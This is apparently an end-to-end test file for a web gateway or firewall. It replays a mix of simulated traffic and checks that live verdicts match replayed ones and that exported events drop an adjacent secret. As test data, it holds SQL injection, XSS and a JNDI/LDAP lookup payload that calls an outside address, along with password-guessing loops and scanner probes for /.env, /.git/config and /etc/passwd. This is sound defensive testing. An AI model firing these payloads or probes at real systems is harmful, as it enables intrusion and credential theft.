//! Live against replay: what the gateway decided, and what its exported events lead to when they are judged again.
//!
//! A mixed run: people's recorded visits, programs, scanners, loops, guessed passwords, a crowd behind one address, broken
//! heads, many at once; as many requests as ten minutes of a small site bring, played faster.
#![expect(
    clippy::unwrap_used,
    clippy::panic,
    reason = "all of it is tests; helpers of tests are not known as such"
)]

use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::time::Duration;

use palisade_detect::{Scope, detectors};
use palisade_e2e::pace::Pacer;
use palisade_e2e::palisade::{Palisade, Setup};
use palisade_e2e::player::{Reference, Stage, play};
use palisade_e2e::recorded::{people, recording};
use palisade_e2e::scenario::clients;
use palisade_e2e::site::Site;
use palisade_e2e::wire::{self, Connection};
use serde_json::Value;
use tokio::task::JoinSet;

/// Of recorded visits, and of programs' own pace.
const SPEED: u32 = 15;

/// Visits of people's browsers.
const VISITS: usize = 36;

/// Rules and limits that write entries are among it.
const CONFIG: &str = r#"
[policy]
enforce = "all"
rules = [
  { when = 'path == "/phpmyadmin/"', action = "block", entry = "block" },
  { when = 'path.startsWith("/api/poll") && user_agent.startsWith("Agent-3")', action = "throttle", entry = "flag" },
  { when = 'path == "/search"', weigh = 5 },
]
[policy.entries]
violations_to_block = 20
[limits]
paths = [{ path = "/login", per_minute = 30 }]
[store]
event_sample = 1.0
[intel]
dns = "off"
refresh_ranges_hours = 0
fetch_keys = false
"#;

/// A browser's head; the address is that of a trusted front's client.
fn browser(address: &str, method: &str, target: &str, more: &str) -> String {
    format!(
        "{method} {target} HTTP/1.1\r\nHost: shop.example\r\n\
         User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\n\
         Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: de,en;q=0.5\r\n\
         Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\nX-Forwarded-For: {address}\r\nX-Forwarded-Proto: http\r\n{more}\r\n"
    )
}

/// A program's head.
fn program(address: &str, agent: &str, method: &str, target: &str, more: &str) -> String {
    format!(
        "{method} {target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: {agent}\r\nAccept: */*\r\n\
         X-Forwarded-For: {address}\r\nX-Forwarded-Proto: http\r\n{more}\r\n"
    )
}

/// Sends `requests` one after the other, `every` so often, over as few connections as the other side allows.
async fn send(gateway: SocketAddr, every: Duration, requests: Vec<(String, String)>) -> anyhow::Result<()> {
    let pacer = Pacer::start();
    let (mut due, mut line) = (Duration::ZERO, None);
    for (head, body) in requests {
        pacer.until(due).await;
        due += every;
        let mut open = match line.take() {
            Some(open) => open,
            None => Connection::open(gateway).await?,
        };
        let answer = open.exchange(head.as_bytes(), body.as_bytes()).await?;
        if answer.header("connection") != Some("close") {
            line = Some(open);
        }
    }
    Ok(())
}

/// What somebody else than the attacker might have written beside the attack.
const SECRET: &str = "hunter2horse";

/// A body with an attack and a secret, and its content type.
fn attack(at: usize) -> (&'static str, String) {
    match at % 3 {
        0 => (
            "application/x-www-form-urlencoded",
            format!("q=1'+union+select+password+from+users--&password={SECRET}&n={at}"),
        ),
        1 => ("application/json", format!(r#"{{"card":"{SECRET}","q":"<script>alert({at})</script>"}}"#)),
        _ => ("text/plain", format!("<pin>{SECRET}</pin><q>${{jndi:ldap://198.51.100.7/{at}}}</q>")),
    }
}

/// Everybody at once; returns when all have gone.
async fn mixed_run(gateway: SocketAddr, site: SocketAddr) {
    let mut crowd: JoinSet<anyhow::Result<()>> = JoinSet::new();
    let reference = Reference::of(site);
    let visits = people(&recording()).unwrap();
    for (number, visit) in visits.into_iter().cycle().take(VISITS).enumerate() {
        // Every third sits behind the same address as others.
        let client = match number % 3 {
            0 => "192.0.2.200".to_owned(),
            _ => format!("192.0.2.{number}"),
        };
        let stage = Stage { gateway, client, reference: reference.clone(), speed: f64::from(SPEED) };
        crowd.spawn(async move { play(&visit, &stage).await.map(drop) });
    }
    for mut client in ["welcome", "unwelcome"].into_iter().flat_map(|name| clients(name).unwrap()) {
        client.request.iter_mut().for_each(|request| request.every_ms /= u64::from(SPEED));
        crowd.spawn(async move { client.play(gateway, |_| false).await.map(drop) });
    }
    let ms = Duration::from_millis;
    for number in 0..8 {
        let address = format!("198.51.100.{number}");
        let guess = |at: usize| {
            let body = format!("user=anna&password=wrong{at}");
            let form = format!(
                "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n",
                body.len()
            );
            (browser(&address, "POST", "/login", &form), body)
        };
        crowd.spawn(send(gateway, ms(15), (0..60).map(guess).collect()));
        let address = format!("198.51.100.{}", 80 + number);
        let attack = |at: usize| {
            let (kind, body) = attack(at);
            let head =
                format!("Content-Type: {kind}\r\nCookie: sid={SECRET}\r\nContent-Length: {}\r\n", body.len());
            (browser(&address, "POST", "/contact", &head), body)
        };
        crowd.spawn(send(gateway, ms(40), (0..12).map(attack).collect()));
        let address = format!("198.51.100.{}", 20 + number);
        let paths =
            ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/?q=%27%20OR%201=1--", "/etc/passwd"];
        let scan = |path: &str| (browser(&address, "GET", path, ""), String::new());
        crowd.spawn(send(gateway, ms(30), paths.iter().cycle().take(25).map(|path| scan(path)).collect()));
        let address = format!("198.51.100.{}", 40 + number);
        let agent =
            ["python-requests/2.32.3", "curl/8.5.0", "Go-http-client/1.1", "okhttp/4.12.0"][number % 4];
        let page =
            |at: usize| (program(&address, agent, "GET", &format!("/page{}", at % 90), ""), String::new());
        crowd.spawn(send(gateway, ms(20), (0..150).map(page).collect()));
        // The same address, several agents: a crowd, or somebody who changes names.
        let several = |at: usize| {
            let agent = format!("Agent-{}/1.0", at % 7);
            (program("203.0.113.77", &agent, "GET", &format!("/api/poll?n={at}"), ""), String::new())
        };
        crowd.spawn(send(gateway, ms(25), (0..60).map(several).collect()));
        let broken = |at: usize| {
            let address = format!("198.51.100.{}", 60 + number);
            let length = ["Content-Length: +4", "Content-Length: 4\r\nContent-Length: 4", "X : 1"][at % 3];
            (program(&address, "broken/1.0", "POST", "/assess", &format!("{length}\r\n")), String::new())
        };
        crowd.spawn(send(gateway, ms(40), (0..6).map(broken).collect()));
    }
    let faults: Vec<String> = crowd
        .join_all()
        .await
        .into_iter()
        .filter_map(|done| done.err().map(|error| format!("{error:#}")))
        .collect();
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// A mixed run with so many workers; how its replay compares with it.
async fn compared(workers: usize) -> Value {
    let site = Site::start().await.unwrap();
    let config = format!("[server]\nworkers = {workers}\n{CONFIG}");
    let mut palisade = Palisade::serve(&Setup::before(site.address).with(&config)).await.unwrap();
    mixed_run(palisade.gateway, site.address).await;
    let metrics = wire::get(palisade.api, "/metrics").await.unwrap().text();
    assert_eq!(palisade.terminate().await.unwrap(), Some(0));
    let count = |name: &str| {
        let line =
            metrics.lines().find_map(|line| line.strip_prefix(name)).unwrap_or_else(|| panic!("no {name}"));
        line.trim().parse::<u64>().unwrap()
    };
    assert_eq!(count("palisade_record_total{what=\"events_dropped\"}"), 0);
    assert_eq!(count("palisade_load_level "), 0, "a flood is judged otherwise, and not what is tested here");

    let file = palisade.data().join("events.ndjson").display().to_string();
    palisade.command(&["store", "export", "--out", &file]).await.unwrap();
    let lines = std::fs::read_to_string(&file).unwrap();
    assert!(lines.contains("payload.") && lines.contains("union+select"), "attacks are kept as evidence");
    assert!(!lines.contains(SECRET), "and nothing beside them");
    let printed = palisade.command(&["replay", &file, "--json"]).await.unwrap();
    let report: Value = serde_json::from_str(&printed).unwrap();
    assert_eq!(report["requests"], count("palisade_requests_total "), "{report}");
    assert_eq!((&report["skipped"], &report["live"]["compared"]), (&Value::from(0), &report["requests"]));
    for action in ["allow", "monitor", "throttle", "block"] {
        assert!(report["by_action"][action].as_u64() > Some(50), "{}", report["by_action"]);
    }
    report["live"].clone()
}

#[tokio::test(flavor = "multi_thread")]
async fn with_one_worker_every_verdict_is_the_same() {
    let live = compared(1).await;
    assert_eq!(live["same"], live["compared"], "{live}");
}

#[tokio::test(flavor = "multi_thread")]
async fn with_several_workers_only_comparisons_between_clients_may_differ() {
    let live = compared(2).await;
    let (compared, same) = (live["compared"].as_u64().unwrap(), live["same"].as_u64().unwrap());
    assert!(same * 1_000 >= compared * 999, "{live}");
    let between: BTreeSet<&str> = detectors::all()
        .iter()
        .map(|detector| detector.card())
        .filter(|card| card.scope == Scope::CrossClient)
        .flat_map(|card| card.signals.iter().map(|signal| signal.0))
        .collect();
    // The reasons of a model are shares of its sum, down to gaps between two requests that two workers had at once.
    let differ = live["signals"].as_object().unwrap().keys().filter(|signal| !signal.starts_with("model."));
    let differ: Vec<&String> = differ.collect();
    assert!(differ.iter().all(|signal| between.contains(signal.as_str())), "{differ:?} of {live}");
}
